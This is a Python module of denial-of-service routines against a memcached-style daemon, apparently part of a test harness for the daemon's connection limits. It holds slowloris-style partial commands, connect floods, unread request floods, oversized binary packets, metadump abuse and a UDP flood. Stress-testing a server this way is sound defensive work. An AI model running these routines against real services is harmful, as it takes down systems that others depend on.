"""Costly attacks on plain sockets: connections without end, requests without reading, commands without an end."""

from __future__ import annotations

import contextlib
import os
import select
import signal
import socket
import struct
import time
from collections.abc import Iterator
from itertools import cycle

import polling
from attacker import Target

RESET = struct.pack("ii", 1, 0)  # SO_LINGER: close sends a reset, and leaves no port in TIME_WAIT
BINARY_HEADER = struct.Struct(">BBHBBHIIQ")
BEGINNINGS = (
    b"",
    b"ge",
    b"get key",
    b"set half 0 0 100000\r\nabc",
    b"ms half 100000\r\nabc",
    b"MPA ID Req",
    b"SHM ID Req Frame",
    b"\x80",
    BINARY_HEADER.pack(0x80, 1, 4, 8, 0, 0, 100_000, 0, 0) + bytes(8) + b"half",
    b"rdma version=2",
)


def half_open(target: Target, count: int) -> None:
    """Keeps connections in the middle of every kind of command."""
    begun = []
    for beginning, _ in zip(cycle(BEGINNINGS), range(count), strict=False):
        begun.append(target.connect())
        begun[-1].sendall(beginning)
    target.ready()
    target.stay()


def connect_flood(target: Target, ready: bool = False) -> None:
    """Connects and resets as fast as possible."""
    if not ready:
        target.ready()
    while True:
        plain = target.connect()
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        plain.close()


def connect_until_full(target: Target, count: int) -> None:
    """Keeps its connections, and asks for more without end. Reports the text read on a refused connection."""
    kept = [target.connect() for _ in range(count)]
    heard = polling.select(kept)[0]
    target.ready()
    target.say(heard[0].recv(100).decode().strip())
    connect_flood(target, ready=True)


def slow_readers(target: Target, count: int, key: str) -> None:
    """Makes connections that ask for a large value once each, and take 1 KB of it each 20 ms."""
    readers = [target.connect(receive_buffer=4096) for _ in range(count)]
    for plain in readers:
        plain.sendall(f"get {key}\r\n".encode())
    target.ready()
    while True:
        for plain in readers:
            assert plain.recv(1024), "the daemon closed the connection"
        time.sleep(0.02)


def pour(plain: socket.socket, data: bytes) -> Iterator[int]:
    """Sends data again and again, for as long as the daemon takes them. Yields the number of bytes taken each time."""
    plain.setblocking(False)
    rest = memoryview(data)
    while True:
        try:
            sent = plain.send(rest)
        except BlockingIOError:
            sent = 0
        rest = rest[sent:] or memoryview(data)
        yield sent


def ask_without_reading(target: Target, count: int, request: str, at_once: int = 100) -> None:
    """`count` connections ask without end and read nothing."""
    block = request.encode() * at_once
    askers = [target.connect(receive_buffer=4096) for _ in range(count)]
    pours = [pour(plain, block) for plain in askers]
    for asker in pours:
        next(asker)
    target.ready()
    while True:
        ready = polling.select([], askers, 0.1)[1]
        for plain in ready:
            next(pours[askers.index(plain)])


def ask_and_read(target: Target, count: int, request: str, at_once: int = 100) -> None:
    """`count` connections ask without end, and read as fast as possible: the worker is never without work."""
    block = request.encode() * at_once
    askers = [target.connect() for _ in range(count)]
    pours = {plain: pour(plain, block) for plain in askers}
    for asker in pours.values():
        next(asker)
    target.ready()
    while True:
        readable, writable = polling.select(askers, askers)
        for plain in readable:
            assert plain.recv(1 << 20), "the daemon closed the connection"
        for plain in writable:
            next(pours[plain])


def many_keys(target: Target, keys: int, prefix: str, read: bool) -> None:
    """Sends lines with very many keys, one after the other. read: takes the replies."""
    line = b"get " + b" ".join(b"%s%d" % (prefix.encode(), number) for number in range(keys)) + b"\r\n"
    if read:
        ask_and_read(target, 1, line.decode(), 1)
    else:
        ask_without_reading(target, 1, line.decode(), 1)


def octet_by_octet(target: Target, count: int) -> None:
    """Each connection sends an octet a second, and they take turns."""
    request = b"set slow 0 0 100000\r\n" + bytes(1000)
    senders = [target.connect() for _ in range(count)]
    for at in range(3):
        for plain in senders:
            plain.send(request[at : at + 1])
    target.ready()
    for at in range(3, len(request)):
        for plain in senders:
            plain.send(request[at : at + 1])
            time.sleep(1.0 / count)
    target.stay()


def endless(target: Target, count: int, start: str, rest: str) -> None:
    """Sends commands that never end. Says "ended" when the daemon has closed every connection, and opens no more."""
    senders = [target.connect() for _ in range(count)]
    for plain in senders:
        plain.sendall(start.encode())
    target.ready()
    block = rest.encode() * (65536 // len(rest))
    poll = select.poll()
    open_ones = {plain.fileno(): plain for plain in senders}
    for fd in open_ones:
        poll.register(fd, select.POLLIN | select.POLLOUT)
    while open_ones:
        for fd, event in poll.poll():
            try:
                if event & select.POLLIN and not open_ones[fd].recv(65536):
                    raise ConnectionError
                if event & select.POLLOUT:
                    open_ones[fd].send(block, socket.MSG_DONTWAIT)
            except BlockingIOError:
                pass
            except OSError:
                poll.unregister(fd)
                open_ones.pop(fd).close()
    target.say("ended")
    target.stay()


def store_without_end(target: Target, count: int, size: int) -> None:
    """Stores large values as fast as the daemon takes them, and reads the replies."""
    request = b"set large 0 0 %d\r\n%s\r\n" % (size, bytes(size))
    senders = [target.connect() for _ in range(count)]
    pours = {plain: pour(plain, request) for plain in senders}
    target.ready()
    while True:
        readable, writable = polling.select(senders, senders)
        for plain in readable:
            assert plain.recv(65536), "the daemon closed the connection"
        for plain in writable:
            next(pours[plain])


def begin_values(target: Target, count: int, size: int, at_once: int) -> None:
    """Announces a value on each of `count` connections, `at_once` of them every 20 ms. Sends no byte of a value."""
    senders = [target.connect() for _ in range(count)]
    target.ready()
    for number, plain in enumerate(senders):
        plain.sendall(b"set begun%d 0 0 %d\r\n" % (number, size))
        if number % at_once == at_once - 1:
            time.sleep(0.02)
    target.stay()


def huge_binary(target: Target, opcode: int, extras: int, key: int) -> None:
    """Sends a binary packet whose header announces a body of 4 GB, with as much of the body as the daemon takes."""
    header = BINARY_HEADER.pack(0x80, opcode, key, extras, 0, 0, 0xFFFFFFFF, 0, 0)
    target.ready()
    while True:
        plain = target.connect()
        plain.sendall(header)
        with contextlib.suppress(OSError):
            while True:
                plain.sendall(bytes(1 << 20))
                if polling.readable(plain, 0) and not plain.recv(65536):
                    break
        plain.close()


def watch(target: Target, count: int, what: str) -> None:
    """Makes watchers that read only the first reply."""
    watchers = [target.connect(receive_buffer=4096) for _ in range(count)]
    for plain in watchers:
        plain.sendall(f"watch {what}\r\n".encode())
        assert plain.recv(4) == b"OK\r\n"
    target.ready()
    target.stay()


def dump(target: Target, count: int) -> None:
    """Asks for dumps of all keys, and reads one byte of each. The daemon makes a dump at a time."""
    dumps = [target.connect(receive_buffer=4096) for _ in range(count)]
    for plain in dumps:
        plain.sendall(b"lru_crawler metadump all\r\n")
        plain.recv(1)
    target.ready()
    target.stay()


def udp_flood(target: Target, port: int, request: str) -> None:
    """Sends datagrams with a request, as fast as possible, and does not read the replies."""
    assert not isinstance(target.address, str)
    plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    plain.connect((target.address[0], port))
    datagram = struct.pack(">HHHH", 1, 0, 1, 0) + request.encode()
    target.ready()
    while True:
        plain.send(datagram)


def store_and_ask(target: Target, count: int, ending: str) -> None:
    """Stores keys of 16 bytes with the end `ending` (hexadecimal), then asks for all of them, in a loop."""
    names = [b"%08x" % number + bytes.fromhex(ending) for number in range(count)]
    plain = target.connect()
    replies = plain.makefile("rb")
    target.ready()
    for at in range(0, len(names), 20):
        batch = names[at : at + 20]
        plain.sendall(b"".join(b"set %s 0 0 1\r\nx\r\n" % name for name in batch))
        for _ in batch:
            assert replies.readline() == b"STORED\r\n"
    while True:
        for at in range(0, len(names), 20):
            plain.sendall(b"get " + b" ".join(names[at : at + 20]) + b"\r\n")
            while replies.readline() != b"END\r\n":
                pass


def stop_and_go(target: Target, pid: int, seconds: float) -> None:
    """Stops the daemon for so long, again and again, as no peer could: for tests of the gate itself."""
    target.ready()
    while True:
        os.kill(pid, signal.SIGSTOP)
        time.sleep(seconds)
        os.kill(pid, signal.SIGCONT)
        time.sleep(seconds)
